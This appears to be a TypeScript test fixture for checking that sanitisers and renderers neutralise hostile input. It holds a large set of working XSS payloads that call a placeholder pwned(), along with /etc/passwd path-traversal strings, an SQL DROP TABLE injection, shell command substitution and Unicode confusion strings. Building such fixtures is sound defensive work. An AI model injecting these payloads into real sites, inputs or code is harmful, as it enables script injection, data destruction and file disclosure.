/** Texts that would run, break out or confuse where text is taken for something else. Each would call `pwned()`. */
const scripts = [
  '<script>pwned()</script>', '<SCRIPT SRC="data:text/javascript,pwned()"></SCRIPT>', '<script\x20type="text/javascript">pwned();</script>', '<scr<script>ipt>pwned()</scr</script>ipt>',
  '</script><script>pwned()</script>', '</textarea><script>pwned()</script>', '</title><script>pwned()</script>', '</style><script>pwned()</script>', '<!--<script>-->pwned()<!--</script>-->',
  '<script type="module">import "data:text/javascript,pwned()"</script>', '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<template><script>pwned()</script></template>', '<![CDATA[<script>pwned()</script>]]>', '<?xml version="1.0"?><script>pwned()</script>',
];
const handlers = [
  '<img src=x onerror=pwned()>', '<img src=x onerror="pwned()"//', '"><img src=x onerror=pwned()>', "'><img src=x onerror=pwned()>", '<img/src/onerror=pwned()>', '<img src="x`y" onerror=pwned()>', '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>', '<select autofocus onfocus=pwned()>', '<textarea autofocus onfocus=pwned()>', '<details open ontoggle=pwned()>', '<video><source onerror=pwned()></video>', '<audio src=x onerror=pwned()>', '<marquee onstart=pwned()>',
  '<div onpointerenter=pwned()>over</div>', '<a onmouseover=pwned()>over</a>', '" onfocus="pwned()" autofocus="', "' onmouseover='pwned()", '" onclick=pwned() x="', '` onmouseover=pwned()', '<x contenteditable onblur=pwned()>x</x>', '<style onload=pwned()></style>', '<link rel=stylesheet href=x onerror=pwned()>',
  '<dialog open onclose=pwned()>', '<button popovertarget=x>x</button><xss onbeforetoggle=pwned() popover id=x>x</xss>', '<xss onanimationstart=pwned() style=animation:x>', '<isindex type=image src=1 onerror=pwned()>',
];
const addresses = [
  'javascript:pwned()', 'JaVaScRiPt:pwned()', ' javascript:pwned()', 'java\tscript:pwned()', 'java\nscript:pwned()', '\u0001javascript:pwned()', 'javascript&colon;pwned()', '&#106;avascript:pwned()', 'javascript://shop.example/%0apwned()', 'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>', 'blob:null/pwned', 'file:///etc/passwd', 'view-source:javascript:pwned()', 'feed:javascript:pwned()',
  '<a href="javascript:pwned()">x</a>', '<a href="data:text/html,<script>pwned()</script>">x</a>', '<form action=javascript:pwned()><button>x</button></form>', '<button formaction=javascript:pwned()>x</button>', '<iframe src=javascript:pwned()></iframe>', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data=javascript:pwned()></object>', '<embed src=javascript:pwned()>', '<meta http-equiv=refresh content="0;url=javascript:pwned()">', '<base href="javascript:pwned()//">', '[x](javascript:pwned())', '![x](javascript:pwned())', '<javascript:pwned()>', 'mailto:a@b.example?subject=<script>pwned()</script>',
];
const otherLanguages = [
  '<svg onload=pwned()>', '<svg><script>pwned()</script></svg>', '<svg><script href="data:text/javascript,pwned()"/></svg>', '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>', '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()/>#x"/></svg>',
  '<svg><foreignObject><iframe onload=pwned()></iframe></foreignObject></svg>', '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>', '<math href="javascript:pwned()">x</math>', '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
  '<style>*{background:url("javascript:pwned()")}</style>', '<style>@import "javascript:pwned()";</style>', 'x:expression(pwned())', '}*{background:red}/*', 'red;background:url(javascript:pwned())', '<p style="position:fixed;inset:0;z-index:9999">pwned</p>',
  '${pwned()}', '#{pwned()}', '{{constructor.constructor("pwned()")()}}', '{{7*7}}', '<%= pwned() %>', '`${pwned()}`', '{% pwned %}', '@(pwned())', "';pwned();//", '";pwned();//', '\\";pwned();//', '*/pwned()/*', '\u2028pwned()\u2029', "'-pwned()-'", ');pwned();(',
];
const structure = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '{"__proto__":{"innerHTML":"<img src=x onerror=pwned()>"}}', '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned()>"}}', '{"type":"script","props":{"children":"pwned()"}}',
  '"}],"x":[{"', '\\u003cscript\\u003epwned()\\u003c/script\\u003e', '{"kind":"notification","type":"x"}', '\\', '"', "'", 'null', 'undefined', 'NaN', '[object Object]', '../../../../etc/passwd', '%3Cscript%3Epwned()%3C/script%3E', "'; DROP TABLE messages;--", '$(pwned)', '`pwned`', '%s%n%x', '$&$1$$',
];
const signs = [
  '\u202Egnp.exe', '\u2066<script>pwned()</script>\u2069', 'a\u0000<script>pwned()</script>', '\uFEFF<script>pwned()</script>', '＜script＞pwned()＜/script＞', 'ʺ＞＜svg onload=pwned()＞', '\u200B\u200B\u200B', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '👩‍👩‍👧‍👦'.repeat(20), 'ﷺ'.repeat(50), 'A'.repeat(3000), '<b>'.repeat(500), ' '.repeat(200) + 'x', '\n'.repeat(100) + 'x', 'םולש <img src=x onerror=pwned()>', '\u0008\u001b[2Jx', '&lt;script&gt;pwned()&lt;/script&gt;', '&amp;lt;img src=x onerror=pwned()&amp;gt;', '\ud83d\ude00<img src=x onerror=pwned()>',
];

export const hostile: readonly string[] = [...new Set([...scripts, ...handlers, ...addresses, ...otherLanguages, ...structure, ...signs])];

/** A few of them, the same for the same seed, and one of each kind at least. */
export function sample(count: number, seed: number): string[] {
  const kinds = [scripts, handlers, addresses, otherLanguages, structure, signs];
  const chosen = new Set<string>();
  for (let state = seed >>> 0, i = 0; chosen.size < count; i++) {
    // A linear congruential generator is random enough to choose with.
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    const kind = kinds[i % kinds.length]!;
    chosen.add(kind[state % kind.length]!);
  }
  return [...chosen];
}
